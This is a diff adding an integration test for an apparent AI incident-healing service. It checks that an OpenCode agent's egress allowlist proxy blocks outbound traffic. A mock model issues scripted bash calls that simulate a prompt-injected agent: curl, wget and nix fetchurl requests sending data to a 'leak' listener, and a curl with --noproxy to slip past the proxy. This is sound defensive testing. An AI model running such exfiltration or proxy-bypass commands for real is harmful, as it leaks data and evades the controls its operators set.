@@ -1,0 +1,198 @@
+import { spawnSync } from "node:child_process";
+import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { createServer, type Server } from "node:http";
+import type { AddressInfo, Socket } from "node:net";
+import { tmpdir } from "node:os";
+import { delimiter, join } from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { DEFAULT_ALLOWED_COMMANDS } from "../../src/config/schema.js";
+import { type MockLlm, type MockTurn, mockProviderConfig, startMockLlm } from "../support/mock-llm.js";
+import { type Healer, startHealer } from "../support/serve.js";
+
+const JELLYFIN = readFileSync(
+  new URL(
+    "../fixtures/alerts/openobserve/recommended.jellyfin-ffmpeg-permission-denied.json",
+    import.meta.url,
+  ),
+  "utf8",
+);
+
+/** The native OpenCode binary (npm package opencode-linux-x64, the build opencode-ai installs here). */
+function opencodeBinary(): string | undefined {
+  const nm = new URL("../../node_modules/", import.meta.url).pathname;
+  const pkgs = readdirSync(nm)
+    .filter((n) => n.startsWith(`opencode-${process.platform}-${process.arch}`))
+    .sort((a, b) => a.length - b.length);
+  return pkgs.map((p) => join(nm, p, "bin", "opencode")).find((p) => existsSync(p));
+}
+const OPENCODE = opencodeBinary();
+const HAS_BWRAP = ["/usr/bin/bwrap", "/bin/bwrap"].some((p) => existsSync(p));
+const has = (cmd: string) => spawnSync(cmd, ["--version"], { stdio: "ignore" }).status === 0;
+const HAS_CURL_WGET = has("curl") && has("wget");
+// `.ci/run` puts the Debian-built Nix here when it installs it; the service's PATH is the agent's.
+const NIX_DIR = "/var/cache/nix-trixie/bin";
+if (!has("nix") && existsSync(join(NIX_DIR, "nix")))
+  process.env.PATH = `${NIX_DIR}${delimiter}${process.env.PATH}`;
+const HAS_NIX = has("nix");
+if (!HAS_NIX) console.log("opencode-egress: no nix on PATH, the builtins.fetchurl turn is left out");
+
+/** An HTTP listener on the host's loopback that counts the TCP connections it gets. */
+interface Listener {
+  port: number;
+  connections: number;
+  server: Server;
+}
+async function listen(body: string): Promise<Listener> {
+  const l: Listener = { port: 0, connections: 0, server: createServer((_q, r) => r.end(body)) };
+  l.server.on("connection", (s: Socket) => {
+    l.connections++;
+    s.on("error", () => {});
+  });
+  await new Promise<void>((ok) => l.server.listen(0, "127.0.0.1", ok));
+  l.port = (l.server.address() as AddressInfo).port;
+  return l;
+}
+const close = (l: Listener | undefined) =>
+  new Promise<void>((ok) => {
+    if (!l) return ok();
+    l.server.closeAllConnections();
+    l.server.close(() => ok());
+  });
+
+const bash = (command: string): MockTurn => ({
+  tools: [{ name: "bash", args: { command, description: "x" } }],
+});
+
+describe.runIf(OPENCODE !== undefined && HAS_BWRAP && HAS_CURL_WGET)(
+  "the real OpenCode behind the egress allowlist: the model through the proxy, nothing else out",
+  () => {
+    let h: Healer;
+    let mock: MockLlm;
+    let leak: Listener;
+    let second: Listener;
+    const stateDir = mkdtempSync(join(tmpdir(), "healer-egress-"));
+    const worktree = join(stateDir, "worktrees", "incident-1");
+    const nix = join(worktree, "hosts/media-01/default.nix");
+    const prBody = join(stateDir, "runs", "1", "pr-body.md");
+    const envFile = join(stateDir, "..", `${stateDir.split("/").pop()}-agent.env`);
+
+    beforeAll(async () => {
+      leak = await listen("leaked");
+      second = await listen("second listener ok");
+      const url = `http://127.0.0.1:${leak.port}`;
+      mock = await startMockLlm([
+        // What a prompt injection in a log line would ask for, through commands the lane allows.
+        ...(HAS_NIX ? [bash(`nix eval --impure --expr 'builtins.fetchurl "${url}/leak"'`)] : []),
+        bash(`curl -sS -m 20 ${url}/leak?d=curl`),
+        bash(`wget -O- -T 20 -t 1 ${url}/leak?d=wget`),
+        // Past the proxy, straight to the host's loopback: another namespace's, so nothing listens.
+        bash(`curl -sS -m 5 --noproxy '*' ${url}/direct`),
+        bash(`curl -sS -m 20 http://127.0.0.1:${second.port}/ok`),
+        {
+          tools: [
+            {
+              name: "edit",
+              args: {
+                filePath: nix,
+                oldString: '    ReadOnlyPaths = [ "/mnt/media" ];',
+                newString: '    ReadOnlyPaths = [ "/mnt/media" ];\n    SupplementaryGroups = [ "media" ];',
+              },
+            },
+          ],
+        },
+        {
+          tools: [
+            {
+              name: "write",
+              args: {
+                filePath: prBody,
+                content:
+                  "# jellyfin: join the media group\n\n## What broke\nPermission denied.\n\n## Root cause\nNo media group.\n\n## Fix\nSupplementaryGroups.\n\n## How it was checked\nRead the unit.\n\n## Risk and rollback\nRevert.\n",
+              },
+            },
+          ],
+        },
+        { text: "Added the media group to jellyfin." },
+      ]);
+      // This machine's single-user Nix keeps its store where the sandbox is read-only; a dummy store
+      // lets the evaluator get as far as the download, which is what this test is about.
+      writeFileSync(envFile, "NIX_CONFIG=store = dummy://\n");
+      h = await startHealer({
+        stateDir,
+        config: (b) => ({
+          ...b,
+          agent: {
+            command: OPENCODE,
+            model: "mock/mock-model",
+            opencodeConfig: mockProviderConfig(mock.baseUrl),
+            allowedCommands: [...DEFAULT_ALLOWED_COMMANDS, "curl *", "wget *"],
+            allowedHosts: [`127.0.0.1:${second.port}`],
+            environmentFile: envFile,
+            idleTimeoutSeconds: 120,
+            timeoutSeconds: 300,
+          },
+        }),
+      });
+    }, 60_000);
+    afterAll(async () => {
+      await h?.stop();
+      await mock?.close();
+      await close(leak);
+      await close(second);
+      rmSync(stateDir, { recursive: true, force: true });
+      rmSync(envFile, { force: true });
+    });
+
+    it("opens the PR; the leak listener gets no connection and egress_refused names it; allowedHosts lets the second through", {
+      timeout: 240_000,
+    }, async () => {
+      expect((await h.post("openobserve", JELLYFIN)).status).toBe(202);
+      type Detail = {
+        incident: { state: string };
+        runs: { outcome: string }[];
+        events: { kind: string; run_id: number | null; data: Record<string, unknown> }[];
+      };
+      const detail = await h.waitFor(
+        "the PR",
+        async () => {
+          const d = (await h.api<Detail>("/incidents/1")).body;
+          return d.incident.state === "pr_open" || d.incident.state === "needs_human" ? d : undefined;
+        },
+        200_000,
+      );
+      // The model was reached (through the proxy: the sandbox has no other way to the host's loopback).
+      expect(detail.incident.state).toBe("pr_open");
+      expect(detail.runs[0]!.outcome).toBe("pr_opened");
+      expect(h.github.prs).toHaveLength(1);
+
+      expect(leak.connections).toBe(0);
+      expect(second.connections).toBeGreaterThanOrEqual(1);
+      const refusals = detail.events.filter((e) => e.kind === "egress_refused");
+      expect(refusals).toHaveLength(1);
+      expect(refusals[0]!.run_id).not.toBeNull();
+      // curl and wget each once, nix at least once (it may retry); the direct curl never reached the proxy.
+      expect(refusals[0]!.data).toMatchObject({ destination: `127.0.0.1:${leak.port}` });
+      expect(refusals[0]!.data.count).toBeGreaterThanOrEqual(HAS_NIX ? 3 : 2);
+
+      // What each command told the model (the last tool result of the next request): refused by the
+      // proxy, refused by the namespace, let through.
+      const toolResult = (turn: number) => {
+        const messages = (mock.requests[turn + 1]?.body.messages ?? []) as {
+          role: string;
+          content: unknown;
+        }[];
+        return String(messages.filter((m) => m.role === "tool").at(-1)?.content ?? "");
+      };
+      const t = HAS_NIX ? 1 : 0;
+      if (HAS_NIX) expect(toolResult(0)).toMatch(/unable to download.*HTTP error 403/);
+      expect(toolResult(t)).toContain(`127.0.0.1:${leak.port} is not in this run's egress allowlist`);
+      expect(toolResult(t + 1)).toMatch(/ERROR 403/);
+      expect(toolResult(t + 2)).toMatch(/Failed to connect|Couldn't connect/);
+      expect(toolResult(t + 3)).toBe("second listener ok");
+
+      const log = readFileSync(join(stateDir, "runs", "1", "agent.log"), "utf8");
+      expect(log).toContain("egress: own network namespace; allowed 127.0.0.1:");
+      expect(log).toContain(`egress refused: 127.0.0.1:${leak.port} is not in the allowlist`);
+    });
+  },
+);
